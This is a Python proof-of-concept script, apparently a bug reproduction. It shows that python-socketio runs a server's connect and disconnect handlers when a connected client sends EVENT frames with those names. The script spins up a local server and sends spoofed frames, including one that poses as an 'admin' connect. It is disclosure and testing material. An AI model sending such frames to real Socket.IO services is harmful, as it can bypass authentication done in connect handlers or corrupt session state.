"""A client's EVENT packet named "connect" or "disconnect" runs the server's lifecycle handlers.

python-socketio dispatches an EVENT packet by its name, and the lifecycle
handlers are registered under the same names: a connected client that sends
`42["connect",{...}]` has the `connect` handler called again, with its own
data where the server expects the WSGI/ASGI environ; `42["disconnect","x"]`
has the `disconnect` handler called while the client stays connected. An app
that authenticates in `connect` or forgets a user in `disconnect` can be
fooled by one frame.

Run: python docs/repro/reserved_event_names.py   (stock python-socketio, uvicorn, websockets)
Exit status 0 when the behaviour reproduces.
"""

import asyncio
import socket

import socketio
import uvicorn
from websockets.asyncio.client import connect as ws_connect

sio = socketio.AsyncServer(async_mode="asgi")
calls: list[tuple[str, object]] = []


@sio.event
async def connect(sid, environ, auth=None):
    calls.append(("connect", type(environ).__name__))


@sio.event
async def disconnect(sid, reason=None):
    calls.append(("disconnect", reason))


async def main() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    config = uvicorn.Config(socketio.ASGIApp(sio), port=port, log_level="warning")
    server = uvicorn.Server(config)
    serving = asyncio.create_task(server.serve())
    while not server.started:
        await asyncio.sleep(0.05)
    url = f"ws://127.0.0.1:{port}/socket.io/?EIO=4&transport=websocket"
    async with ws_connect(url, proxy=None) as ws:
        await ws.recv()  # engine.io OPEN
        await ws.send("40")  # Socket.IO CONNECT to "/"
        await ws.recv()  # CONNECT ack
        await ws.send('42["connect",{"user":"admin"}]')
        await ws.send('42["disconnect","spoofed"]')
        await asyncio.sleep(0.5)
        still_connected = len(sio.manager.rooms.get("/", {}).get(None, {})) == 1
    server.should_exit = True
    await serving
    print("handler calls:", calls)
    reproduced = calls[:3] == [("connect", "dict"), ("connect", "dict"), ("disconnect", "spoofed")]
    if reproduced and still_connected:
        print("REPRODUCED: a client's events re-ran connect (with its own data as environ) "
              "and ran disconnect while it stayed connected")
        return 0
    print("not reproduced")
    return 1


if __name__ == "__main__":
    raise SystemExit(asyncio.run(main()))
